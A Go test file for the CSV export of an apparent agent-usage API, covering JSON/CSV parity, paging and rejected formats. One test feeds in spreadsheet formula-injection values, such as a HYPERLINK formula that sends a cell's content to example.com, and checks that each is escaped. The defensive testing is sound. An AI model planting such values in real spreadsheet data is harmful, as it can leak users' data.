package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// lines are the rows that an answer's JSON has, each as its members; of a gap, its time alone.
func (a reply) lines() []map[string]any {
	a.t.Helper()
	type period struct {
		Start, End     string
		Metrics, Usage map[string]any
	}
	var body struct {
		Agents []struct {
			ID      string `json:"agent_instance_id"`
			Type    string `json:"agent_type"`
			Periods []period
		}
		Periods   []period
		Anomalies []map[string]any
	}
	decoder := json.NewDecoder(strings.NewReader(a.raw))
	decoder.UseNumber()
	if err := decoder.Decode(&body); err != nil {
		a.t.Fatal(err)
	}
	lines := body.Anomalies
	add := func(periods []period, of map[string]any) {
		for _, p := range periods {
			line := map[string]any{"start": p.Start, "end": p.End}
			for _, part := range []map[string]any{of, p.Metrics, p.Usage} {
				maps.Copy(line, part)
			}
			lines = append(lines, line)
		}
	}
	for _, s := range body.Agents {
		add(s.Periods, map[string]any{"agent_instance_id": s.ID, "agent_type": s.Type})
	}
	add(body.Periods, nil)
	return lines
}

// sameCell compares a cell with what JSON has, null and a missing member being empty. Numbers are
// the same to the last digit, however they are written.
func sameCell(cell string, value any) bool {
	number, isNumber := value.(json.Number)
	if !isNumber || number.String() == cell {
		return value == nil && cell == "" || value != nil && fmt.Sprint(value) == cell
	}
	want, err := number.Float64()
	got, failed := strconv.ParseFloat(cell, 64)
	return err == nil && failed == nil && got == want && !strings.ContainsAny(cell, "eE")
}

// Each list as CSV says, cell by cell, what its JSON does. A gap has empty cells and no zeros.
func TestCSVSaysWhatTheJSONDoes(t *testing.T) {
	f := newFixture(t)
	f.ended(3, 1, "tutor", "completed", "2026-03-30T07:01:00Z", 1.25)
	f.ended(1, 2, `maths, "tutor"`, "failed", "2026-03-30T09:02:00Z", 1e-6)
	for _, monday := range []string{"02-16", "02-23", "03-02", "03-09", "03-16", "03-23"} {
		f.ended(20, 3, "tutor", "completed", "2026-"+monday+"T09:10:00Z", 1)
	}
	f.ended(200, 3, "tutor", "completed", "2026-03-30T08:10:00Z", 1)
	f.exec(`INSERT INTO file_transfers (organization_id, file_id, direction, bytes, at)
		VALUES ($1, $1, 'in', 9007199254740993, '2026-03-30T09:02:00Z')`, f.school)
	staff := f.staff()
	empty := staff.get("/usage", within("format", "csv")...).want(200)
	if rows := empty.table(); len(rows) != 49 || empty.header.Get("Complete-Through") != "" {
		t.Errorf("before anything was computed: %d rows, complete through %q", len(rows),
			empty.header.Get("Complete-Through"))
	}
	f.aggregate()
	for path, query := range routesAsked() {
		if path == "/health" {
			staff.get(path, "format", "csv").want(422, "invalid-request")
			continue
		}
		want := staff.get(path, query...).want(200).lines()
		sheet := staff.get(path, append(query, "format", "csv")...).want(200)
		columns, rows := sheet.table()[0], sheet.table()[1:]
		if len(rows) != len(want) || len(want) == 0 {
			t.Fatalf("%s has %d rows, want %d", path, len(rows), len(want))
		}
		gaps := 0
		for i, row := range rows {
			if len(want[i]) < len(columns) {
				gaps++
			}
			for j, name := range columns {
				if !sameCell(row[j], want[i][name]) {
					t.Errorf("%s row %d: %s is %q, want %v", path, i+1, name, row[j], want[i][name])
				}
			}
			for name := range want[i] {
				if !slices.Contains(columns, name) {
					t.Errorf("%s has no column %s", path, name)
				}
			}
		}
		if gaps == len(rows) || gaps == 0 && path != "/anomalies" {
			t.Errorf("%s has %d gaps in %d rows", path, gaps, len(rows))
		}
		if h := sheet.header; h.Get("Complete-Through") != today || h.Get("Next-Cursor") != "" ||
			!strings.HasSuffix(sheet.raw, "\r\n") {
			t.Errorf("%s has the headers %v", path, h)
		}
		staff.get(path, append(query, "format", "xlsx")...).want(422, "invalid-request")
	}
}

// What a client has named is text in a spreadsheet, whatever it begins with.
func TestNoCellIsAFormula(t *testing.T) {
	f := newFixture(t)
	kinds := []string{`=HYPERLINK("https://example.com/"&A1)`, "+1", "-1+1", "@SUM(A1)", "\t=1",
		" =1", "\u00a0=1", "\ufeff=1", "＝1", "tutor"}
	for i, kind := range kinds {
		f.ended(1, i, kind, "completed", "2026-03-30T09:01:00Z", 1)
	}
	f.aggregate()
	staff := f.staff()
	for i, kind := range kinds {
		want := "'" + kind
		if kind == "tutor" {
			want = kind
		}
		rows := staff.get("/agents/"+agent(i).String(),
			within("format", "csv")...).want(200).table()
		if got := rows[1][1]; got != want {
			t.Errorf("an agent of type %q has the cell %q, want %q", kind, got, want)
		}
	}
}

// Pages of CSV are bounded as those of JSON are: the cursor is in a header.
func TestPagesOfCSV(t *testing.T) {
	f := newFixture(t)
	const agents = 5
	for n := range agents {
		f.ended(1, n, "tutor", "completed", "2026-03-30T09:01:00Z", 1)
	}
	f.aggregate()
	seen, pages, cursor := map[string]bool{}, 0, ""
	for first := true; first || cursor != ""; first = false {
		a := f.staff().get("/agents", within("limit", "2", "format", "csv", "cursor",
			cursor)...).want(200)
		page := map[string]bool{}
		for _, row := range a.table()[1:] {
			page[row[0]] = true
		}
		for id := range page {
			if seen[id] {
				t.Fatalf("%s is on two pages", id)
			}
			seen[id] = true
		}
		if len(page) > 2 {
			t.Errorf("a page has %d agents", len(page))
		}
		cursor = a.header.Get("Next-Cursor")
		pages++
	}
	if len(seen) != agents || pages != 3 {
		t.Errorf("%d agents on %d pages", len(seen), pages)
	}
	f.staff().get("/usage", "from", "2026-03-01T00:00:00Z", "to", "2026-04-03T00:00:00Z",
		"format", "csv").want(422, "invalid-request")
}
